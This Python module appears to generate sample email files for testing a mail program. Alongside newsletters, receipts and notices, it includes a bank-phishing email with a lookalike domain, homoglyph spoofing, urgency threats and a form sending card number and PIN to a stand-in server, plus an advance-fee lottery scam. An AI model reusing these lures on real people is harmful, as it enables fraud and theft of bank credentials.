# SPDX-License-Identifier: GPL-3.0-or-later
"""Newsletters, receipts, a bank, and those who pretend to be one."""
from parts import Message, ascii_text, box, file, html, multipart, text
import pictures

PREHEADER = (
    '<div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0;max-width:0;opacity:0;'
    'overflow:hidden;mso-hide:all">{}&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>'
)


def button(label, address, colour):
    return f"""<table role="presentation" border="0" cellpadding="0" cellspacing="0"><tr>
<td align="center" bgcolor="{colour}" style="border-radius:4px;background-color:{colour}">
<a href="{address}" target="_blank" style="display:inline-block;padding:11px 22px;font-family:Georgia,serif;font-size:15px;\
color:#ffffff;text-decoration:none">{label}</a></td></tr></table>"""


def bookshop():
    books = [
        (
            "The Salt\nRoad",
            (150, 60, 50),
            "The Salt Road",
            "Ida Marsh",
            "14.90",
            "Two sisters, one donkey, four hundred miles.",
        ),
        (
            "Night\nFerry",
            (40, 70, 110),
            "Night Ferry",
            "Tomas Lund",
            "12.50",
            "A thriller that is kind to its readers.",
        ),
        (
            "Moss",
            (60, 100, 60),
            "Moss",
            "Prof. E. Vane",
            "22.00",
            "All you did not know about what grows on your roof.",
        ),
    ]
    rows = ""
    for i, (_, _, title, author, price, line) in enumerate(books):
        rows += f"""<tr><td width="130" valign="top" style="padding:12px 0 12px 24px">
<a href="https://click.lantern.example.com/c/7f3a/{i}"><img src="cid:cover{i}.1121@lantern.example.com" width="110" alt="{title}" \
border="0" style="display:block"></a></td>
<td valign="top" style="padding:12px 24px;font-family:Georgia,'Times New Roman',serif;color:#3b2f2a">
<h3 style="margin:0 0 4px;font-size:19px;color:#7a2e22">{title}</h3>
<p style="margin:0 0 8px;font-size:14px;color:#8a7a70">{author} &middot; &euro;&nbsp;{price}</p>
<p style="margin:0 0 12px;font-size:15px;line-height:22px">{line}</p>
{button("Put it by for me", f"https://click.lantern.example.com/c/7f3a/{i}", "#7a2e22")}</td></tr>
<tr><td colspan="2" style="padding:0 24px"><hr style="border:0;border-top:1px solid #e6d9c8"></td></tr>
"""
    page = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" />
<title>The Paper Lantern: books for long evenings</title>
<style type="text/css">
  body {{ margin:0; padding:0; background-color:#f3ece1; }}
  table {{ border-collapse:collapse; }}
  a {{ color:#7a2e22; }}
  @media only screen and (max-width:620px) {{ .page {{ width:100% !important; }} .hide {{ display:none !important; }} }}
</style>
<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
</head>
<body bgcolor="#f3ece1">
{PREHEADER.format("Three books for long evenings, and tea on the house on Friday.")}
<table role="presentation" width="100%" border="0" cellpadding="0" cellspacing="0" bgcolor="#f3ece1"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" class="page" width="600" border="0" cellpadding="0" cellspacing="0" bgcolor="#fffaf2" style="border:1px solid #e6d9c8">
<tr><td colspan="2"><img src="cid:banner.1121@lantern.example.com" width="600" alt="The Paper Lantern" border="0" style="display:block;width:100%;max-width:600px" /></td></tr>
<tr><td colspan="2" style="padding:24px 24px 8px;font-family:Georgia,'Times New Roman',serif;color:#3b2f2a">
<h1 style="margin:0 0 12px;font-size:26px;font-weight:normal">Books for long evenings</h1>
<p style="margin:0;font-size:16px;line-height:24px">Dear Robin, it is dark at half past four and the kettle is on. Here are three that kept
<em>us</em> up this month. Everything else is on the big table by the door.</p></td></tr>
{rows}<tr><td colspan="2" align="center" style="padding:16px 24px"><img src="https://pictures.lantern.example.com/2026/11/shop-window.jpg" \
width="552" height="240" alt="Our window in November" style="display:block;background:#e6d9c8" /></td></tr>
<tr><td colspan="2" style="padding:8px 24px 24px;font-family:Georgia,serif;font-size:15px;line-height:22px;color:#3b2f2a">
<strong>Friday, 27 November, 19:30:</strong> Ida Marsh reads from <a href="https://click.lantern.example.com/c/7f3a/reading">The Salt Road</a>.
Tea on the house. Thirty chairs, so do tell us.</td></tr>
<tr><td colspan="2" bgcolor="#3b2f2a" style="padding:18px 24px;font-family:Arial,sans-serif;font-size:12px;line-height:18px;color:#d8c8b8">
The Paper Lantern &middot; Candle Street 3 &middot; Millbrook<br />You get this because you ticked the box in the shop.
<a href="https://lantern.example.com/unsubscribe?u=7f3a91" style="color:#f0d8b0">Unsubscribe</a> &middot;
<a href="https://lantern.example.com/view/2026-11?u=7f3a91" style="color:#f0d8b0">View in a browser</a></td></tr>
</table></td></tr></table>
<img src="https://click.lantern.example.com/open.gif?u=7f3a91&amp;m=2026-11" width="1" height="1" alt="" border="0" style="display:block" />
</body></html>
"""
    plain = (
        "THE PAPER LANTERN\nBooks for long evenings\n\nDear Robin, it is dark at half past four and the kettle is on. Here are\n"
        "three that kept us up this month.\n\n"
        + "".join(
            f"* {title} ({author}), EUR {price}\n  {line}\n  https://click.lantern.example.com/c/7f3a/{i}\n\n"
            for i, (_, _, title, author, price, line) in enumerate(books)
        )
        + "Friday, 27 November, 19:30: Ida Marsh reads. Tea on the house.\n\n--\nUnsubscribe: https://lantern.example.com/unsubscribe?u=7f3a91\n"
    )
    images = [
        file(
            "banner.png",
            "image/png",
            pictures.png(pictures.banner("The Paper Lantern", (600, 140), (122, 46, 34), (250, 226, 180)), 96),
            "inline",
            "banner.1121@lantern.example.com",
        )
    ]
    for i, (title, colour, *_rest) in enumerate(books):
        images.append(
            file(
                f"cover{i}.png",
                "image/png",
                pictures.png(pictures.cover(title, colour), 64),
                "inline",
                f"cover{i}.1121@lantern.example.com",
            )
        )
    return Message(
        "newsletter-books.eml",
        box("The Paper Lantern", "post@lantern.example.com"),
        "Three books for long evenings 🏮",
        "2026-11-19 16:00 +0000",
        multipart("alternative", text(plain), multipart("related", html(page), *images, extra='; type="text/html"')),
        headers=[
            ("Reply-To", "hello@lantern.example.com"),
            (
                "List-Unsubscribe",
                "<https://lantern.example.com/unsubscribe?u=7f3a91>,\n <mailto:leave@lantern.example.com?subject=7f3a91>",
            ),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
            ("Precedence", "bulk"),
        ],
        agent="PostBell 7 (campaign 2026-11)",
    )


def outdoors():
    def card(title, line, address, picture):
        return f"""<td width="50%" valign="top" style="padding:10px"><table width="100%" cellpadding="0" cellspacing="0" border="0" \
style="border:1px solid #d4dde4"><tr><td><img src="https://img.trailnotes.example.com/{picture}.jpg" width="268" height="150" alt="{title}" \
style="display:block;background-color:#c9d6df"></td></tr><tr><td style="padding:14px;font-family:Helvetica,Arial,sans-serif">
<p style="margin:0 0 6px;font-size:16px;font-weight:bold;color:#16324a">{title}</p><p style="margin:0 0 10px;font-size:14px;line-height:20px;color:#44525e">{line}</p>
<a href="{address}" style="font-size:14px;color:#0a6e5c">Read on &rarr;</a></td></tr></table></td>"""

    page = f"""<html><head><meta charset="utf-8"><meta name="color-scheme" content="light dark">
<style>
:root {{ color-scheme: light dark; }}
.wrap {{ width: 600px; margin: 0 auto; background: #ffffff; }}
h1 {{ font: bold 24px/30px Helvetica, Arial, sans-serif; color: #16324a; }}
p.lead {{ font: 16px/24px Helvetica, Arial, sans-serif; color: #2b3a44; }}
</style></head>
<body style="margin:0;background:#eef3f6">
{PREHEADER.format("Frost is coming: five walks that begin at a railway station.")}
<center><div class="wrap"><table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff">
<tr><td style="background-color:#16324a;background-image:url('https://img.trailnotes.example.com/header.jpg');padding:22px 20px;\
font-family:Helvetica,Arial,sans-serif;font-size:22px;color:#ffffff"><b>Trail Notes</b> <span style="font-size:13px;color:#9fc2d6">No. 214, November</span></td></tr>
<tr><td><img src="cid:hero@trailnotes.example.com" width="600" height="300" alt="First frost above the valley" style="display:block"></td></tr>
<tr><td style="padding:20px"><h1>Five walks that begin at a railway station</h1>
<p class="lead">No car, no map reading on the phone, no excuses. Each is between eight and fourteen kilometres and ends where there is soup.</p>
<ol style="font:15px/24px Helvetica,Arial,sans-serif;color:#2b3a44"><li>Over the moor to Ashby Halt</li><li>The old tram line</li>
<li>Three mills and a ferry</li><li>Up Cold Law, and down again</li><li>The long way to the cake</li></ol></td></tr>
<tr><td style="padding:0 10px"><table width="100%" cellpadding="0" cellspacing="0" border="0"><tr>
{card("Socks, tested", "Eleven pairs, two hundred kilometres, one blister.", "https://trailnotes.example.com/r/socks?s=nl214", "socks")}
{card("What frost does to a knee", "A doctor explains, and is reassuring.", "https://trailnotes.example.com/r/knee?s=nl214", "knee")}
</tr></table></td></tr>
<tr><td align="center" style="padding:18px">{button("All walks of the month", "https://trailnotes.example.com/walks/2026-11?s=nl214", "#0a6e5c")}</td></tr>
<tr><td style="padding:18px 20px;background:#eef3f6;font:12px/18px Helvetica,Arial,sans-serif;color:#667788">Trail Notes, Hillside 1, Northam.
To robin@example.org, every second Wednesday. <a href="https://trailnotes.example.com/leave?k=3b1d">Leave</a></td></tr>
</table></div></center>
<img src="http://count.trailnotes.example.com/p/214/3b1d.png" height="1" width="1" style="height:1px;width:1px;border:0">
<script>document.title = "Trail Notes";</script>
</body></html>
"""
    hero = pictures.jpeg(
        pictures.landscape(83, (600, 300), ((150, 180, 210), (240, 228, 226)), (70, 92, 120), lake=False), 78
    )
    plain = (
        "TRAIL NOTES No. 214\n\nFive walks that begin at a railway station\nhttps://trailnotes.example.com/walks/2026-11?s=nl214\n\n"
        "Also: Socks, tested. What frost does to a knee.\n\nLeave: https://trailnotes.example.com/leave?k=3b1d\n"
    )
    return Message(
        "newsletter-walks.eml",
        box("Trail Notes", "letter@trailnotes.example.com"),
        "Frost is coming – five walks with soup",
        "2026-11-11 06:30 +0000",
        multipart(
            "alternative",
            text(plain, "8bit"),
            multipart(
                "related",
                html(page, "base64"),
                file("hero.jpg", "image/jpeg", hero, "inline", "hero@trailnotes.example.com"),
            ),
        ),
        headers=[
            ("List-Unsubscribe", "<https://trailnotes.example.com/leave?k=3b1d>"),
            ("List-Id", "Trail Notes <letter.trailnotes.example.com>"),
        ],
    )


def receipts():
    lines = [
        ("Merino blanket, grey", 1, "49.00"),
        ("Tea tin, 500 g", 2, "17.80"),
        ("Beeswax candles, 6 pieces", 1, "12.40"),
    ]
    rows = "".join(
        f'<tr><td style="padding:6px 0;border-bottom:1px solid #ddd">{n} &times; {name}</td>'
        f'<td align="right" style="border-bottom:1px solid #ddd">&pound;{price}</td></tr>'
        for name, n, price in lines
    )
    page = f"""<html><body style="font-family:Arial,sans-serif;color:#222"><h2>Thank you for your order, Robin</h2>
<p>Order <b>WH-20261106-4471</b> of 6 November 2026. We pack it tomorrow.</p>
<table width="480" cellspacing="0" cellpadding="0">{rows}
<tr><td style="padding:6px 0">Delivery</td><td align="right">&pound;4.50</td></tr>
<tr><td style="padding:6px 0"><b>Total</b>, including 20&nbsp;% VAT</td><td align="right"><b>&pound;83.70</b></td></tr></table>
<p>Delivered to: Robin Fields, Quay Street 12, Millbrook</p><p><a href="https://woolhouse.example.com/orders/WH-20261106-4471">Your order</a></p></body></html>
"""
    plain = (
        "Thank you for your order, Robin\n\nOrder WH-20261106-4471 of 6 November 2026\n\n"
        + "".join(f"{n} x {name:<30} {price:>8}\n" for name, n, price in lines)
        + f"    {'Delivery':<30} {'4.50':>8}\n    {'Total':<30} {'83.70':>8} GBP\n"
    )
    order = Message(
        "receipt-order.eml",
        box("Wool & House", "orders@woolhouse.example.com"),
        "Your order WH-20261106-4471",
        "2026-11-06 19:22 +0000",
        multipart("alternative", ascii_text(plain), html(page)),
    )
    sent = Message(
        "receipt-parcel.eml",
        box("Wool & House", "orders@woolhouse.example.com"),
        "On its way: WH-20261106-4471",
        "2026-11-07 15:03 +0000",
        html(
            """<html><body style="font-family:Arial,sans-serif"><p>Hello Robin,</p><p>your parcel left us at 14:58 and should be with
you on <b>Tuesday</b>.</p><p><a href="https://parcels.example.net/track?n=00340434161094042557">00340434161094042557</a></p>
<p>Nobody at home? The neighbour at number 14 may take it.</p></body></html>
"""
        ),
    )
    ticket = pictures.pdf(
        [
            [
                "# E-ticket 7KQ2MF",
                "",
                "Robin Fields + 1 (Kim Amari)",
                "24 December 2026, second class, seats 41 and 42, coach 6",
                "",
                "Millbrook       dep 08:12",
                "Ashby Junction  arr 09:05, change",
                "Ashby Junction  dep 09:18, platform 3",
                "Northam         arr 11:31",
                "",
                "Paid: 58.40. Valid with the card that it was bought with.",
            ]
        ]
    )
    train = Message(
        "receipt-train.eml",
        box("Coast & Valley Railway", "tickets@railway.example.com"),
        "Your tickets 7KQ2MF: Millbrook – Northam, 24 December",
        "2026-11-10 20:47 +0000",
        multipart(
            "mixed",
            text(
                "Dear passenger,\n\nyour tickets are attached. Show them on your telephone or printed.\n\n"
                "    24 Dec  08:12  Millbrook\n            11:31  Northam\n\nWe wish you a pleasant journey – with a seat.\n"
            ),
            file("ticket-7KQ2MF.pdf", "application/pdf", ticket),
        ),
    )
    return [order, sent, train]


def bank():
    statement = Message(
        "bank-statement.eml",
        box("Northbank", "service@northbank.example.com"),
        "Your statement for October is ready",
        "2026-11-02 07:10 +0000",
        multipart(
            "alternative",
            text(
                "Dear Robin Fields,\n\nyour statement for October 2026 (account ending in 318) is ready in your online\n"
                "bank. Please sign in as you always do; we never send links to the sign-in page.\n\nNorthbank\n"
            ),
            html(
                """<html><body style="font-family:Verdana,sans-serif;font-size:14px;color:#1a2b3c"><table width="560" style="border-top:4px solid #004d7a">
<tr><td style="padding:16px 0"><b style="color:#004d7a;font-size:18px">Northbank</b></td></tr><tr><td><p>Dear Robin Fields,</p><p>your statement for October
2026 (account ending in <b>318</b>) is ready in your online bank. Please sign in as you always do; we never send links to the sign-in page.</p><p>Northbank</p></td></tr>
</table></body></html>
"""
            ),
        ),
        headers=[
            ("Authentication-Results", "mx.example.org; dkim=pass header.d=northbank.example.com; spf=pass"),
            ("Auto-Submitted", "auto-generated"),
        ],
    )
    page = """<html><body style="font-family:Verdana,sans-serif;font-size:14px;color:#1a2b3c"><table width="560" style="border-top:4px solid #004d7a">
<tr><td style="padding:16px 0"><b style="color:#004d7a;font-size:18px">Northbank</b></td></tr><tr><td>
<p>Dear customer,</p>
<p>We noticed an <b>unusual sign-in</b> to your account from a new device. For your protection your account has been <font color="#cc0000"><b>limited</b></font>.</p>
<p>Please confirm your details within <b>24 hours</b>, or your account will be closed for ever:</p>
<p><a href="http://northbank.example.com.confirm-account.example.test/signin.php?id=robin@example.org">https://www.northbank.example.com/signin</a></p>
<p>If the link does not work, <a href="http://203.0.113.66/n0rthbank/">click here</a>.</p>
<form action="http://203.0.113.66/n0rthbank/take.php" method="post">Card number: <input name="card"> PIN: <input name="pin" type="password"> <input type="submit" value="Confirm"></form>
<p>Thank you for banking with N&#959;rthbank<br>Security Department</p></td></tr></table></body></html>
"""
    phishing = Message(
        "phishing-bank.eml",
        box("service@northbank.example.com", "n0rthbank-alerts@mass.example.test"),
        "URGENT: your acc\u043eunt has been limited",
        "2026-11-20 03:12 +0000",
        html(page),
        headers=[
            ("Reply-To", "<confirm@collect.example.test>"),
            ("X-Priority", "1 (Highest)"),
            ("Importance", "high"),
            ("Authentication-Results", "mx.example.org; dkim=none; spf=fail smtp.mailfrom=mass.example.test"),
        ],
    )
    spam = Message(
        "spam-prize.eml",
        '"MR. BARNABAS W. GOLD" <gold.barnabas88@lottery.example.test>',
        "!!! YOU HAVE WON 4.500.000,00 $$$ - REF NO: XK/2026/77 - OPEN NOW !!!",
        "2026-11-19 01:44 -0800",
        ascii_text(
            """ATTENTION LUCKY WINNER!!!!

YOUR E-MAIL ADDRESS WAS DRAWN BY COMPUTER OUT OF 91,000,000 ADDRESSES AND HAS
WON THE SUM OF 4.500.000,00 (FOUR MILLION FIVE HUNDRED THOUSAND) DOLLARS.

TO CLAIM, KINDLY SEND: FULL NAMES, AGE, OCCUPATION, TELEPHONE, COPY OF PASSPORT
AND THE HANDLING FEE OF 350.00 TO OUR FIDUCIARY AGENT: claims@lottery.example.test

KEEP THIS CONFIDENTIAL!!! CONGRATULATIONS ONCE AGAIN!!!
"""
        ),
        to="undisclosed-recipients:;",
        headers=[("X-Spam-Flag", "YES"), ("X-Spam-Score", "14.2")],
    )
    return [statement, phishing, spam]


def notices():
    reset = Message(
        "notice-password.eml",
        box("Bird Atlas", "no-reply@birdatlas.example.net"),
        "Your code is 481 502",
        "2026-11-15 09:58 +0000",
        multipart(
            "alternative",
            ascii_text(
                "Your code is 481 502. It is good for ten minutes.\n\nNot you? Then nothing needs to be done.\n"
            ),
            html(
                '<html><body><p>Your code is</p><p style="font:bold 32px monospace;letter-spacing:6px">481&nbsp;502</p>'
                "<p>It is good for ten minutes. Not you? Then nothing needs to be done.</p></body></html>\n"
            ),
        ),
    )
    cron = Message(
        "notice-cron.eml",
        "root (Cron Daemon)",
        "Cron <root@attic> /usr/local/bin/backup",
        "2026-11-20 04:00 +0000",
        ascii_text("backup: 12,418 files, 3 changed, 0 errors\nbackup: disk 61% full\n"),
        to="root",
        headers=[
            ("X-Cron-Env", "<SHELL=/bin/sh>"),
            ("X-Cron-Env", "<HOME=/root>"),
            ("Auto-Submitted", "auto-generated"),
        ],
        message_id="<20261120040001.A1B2C3@attic>",
    )
    school = Message(
        "notice-school.eml",
        box("Mill Road School", "office@millroad.example.org"),
        "Gym closed to clubs on 1 December",
        "2026-11-20 08:15 +0000",
        text(
            "To all clubs that use our gym:\n\non Tuesday, 1 December, the gym is a polling station. There is no training that\n"
            "evening. The caretaker asks you to take your things out of the lockers marked\n“A”–“D” until Monday.\n\nMill Road School, office\n"
        ),
        to=box("Clubs", "clubs@millroad.example.org"),
        headers=[
            ("Cc", "robin@example.org"),
            ("Importance", "normal"),
            ("Disposition-Notification-To", "<office@millroad.example.org>"),
        ],
    )
    return [reset, cron, school]


def messages():
    return [bookshop(), outdoors()] + receipts() + bank() + notices()
